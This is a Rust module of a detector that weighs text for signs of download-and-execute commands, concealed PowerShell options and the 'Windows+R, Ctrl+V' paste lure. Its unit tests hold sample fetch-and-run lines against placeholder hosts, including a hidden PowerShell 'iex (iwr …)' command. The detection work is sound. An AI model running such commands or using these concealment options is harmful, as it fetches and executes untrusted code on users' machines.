//! Command lines that fetch code and execute it, or hide their effect. The form alone is ordinary in instructions, so that it is
//! evidence and not a threat.

use super::Evidence;

/// Programs that fetch.
const FETCHERS: [&str; 7] =
    ["curl ", "wget ", "iwr ", "invoke-webrequest", "downloadstring(", "certutil -urlcache", "bitsadmin"];
/// Ends of a pipe, and substitutions, that execute.
const EXECUTORS: [&str; 13] = [
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| sudo sh",
    "| sudo bash",
    "| zsh",
    "| python",
    "| iex",
    "|iex",
    "iex (",
    "iex(",
    "<(curl",
];
/// Options that hide a window, encode a command or switch protection off.
const CONCEALED: [&str; 9] = [
    "-w hidden",
    "-windowstyle hidden",
    "-enc ",
    "-encodedcommand",
    "-ep bypass",
    "-executionpolicy bypass",
    "mshta http",
    "frombase64string",
    "base64 -d | ",
];
/// Bytes that are read on from a program that fetches: the longest ordinary command line.
const COMMAND: usize = 512;

/// Evidence of a text.
pub(super) fn evidence(text: &str) -> Vec<Evidence> {
    let text = text.to_ascii_lowercase();
    let mut evidence = Vec::new();
    let mut add = |says: &str, weight| evidence.push(Evidence { says: says.to_owned(), weight });
    let commands: Vec<&str> = FETCHERS.iter().flat_map(|name| command_lines(&text, name)).collect();
    let piped: Vec<&&str> =
        commands.iter().filter(|line| EXECUTORS.iter().any(|end| line.contains(end))).collect();
    if !piped.is_empty() {
        add("contains a command that executes a download", 2);
    }
    if piped.iter().any(|line| line.contains("http://")) {
        add("downloads it without TLS", 2);
    }
    // The keys of the dialog that executes a line, and those that paste one: the order that false tests of robots give.
    let dense: String = text.chars().filter(|sign| !sign.is_whitespace()).collect();
    let has = |keys: &[&str]| keys.iter().any(|key| dense.contains(key));
    if has(&["windows+r", "win+r", "windowskey+r", "⊞+r"]) && has(&["ctrl+v", "strg+v", "control+v"]) {
        add("asks to paste a command into a dialog that executes it", 7);
    }
    if CONCEALED.iter().any(|option| text.contains(option)) {
        add("contains a command that hides its effect", 4);
    }
    evidence
}

/// Lines from a little before each mention of a program: `iex (iwr …)` begins before the program that fetches.
fn command_lines<'t>(text: &'t str, name: &'t str) -> impl Iterator<Item = &'t str> {
    text.match_indices(name).filter_map(|(place, _)| {
        let start = (place.saturating_sub(16)..=place).find(|start| text.is_char_boundary(*start))?;
        let rest = text.get(start..)?;
        let end = (0..=rest.len().min(COMMAND)).rev().find(|end| rest.is_char_boundary(*end))?;
        rest.get(..end)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn weight(text: &str) -> i32 {
        evidence(text).iter().map(|one| one.weight).sum()
    }

    #[test]
    fn a_download_that_is_executed_is_evidence_and_more_without_tls() {
        assert_eq!(weight("curl -fsSL https://sh.example/install.sh | sh"), 2);
        assert_eq!(weight("bash <(curl -s http://192.0.2.1/x)"), 4);
        assert_eq!(weight("powershell -w hidden -c \"iex (iwr http://a.example/f.ps1)\""), 8);
        assert_eq!(weight("Press Windows + R, then Ctrl + V and Enter"), 7);
        assert_eq!(weight("Copy with Ctrl + C, paste with Ctrl + V"), 0);
        assert_eq!(weight("curl -O https://a.example/file.tar.gz; cargo build"), 0);
    }
}
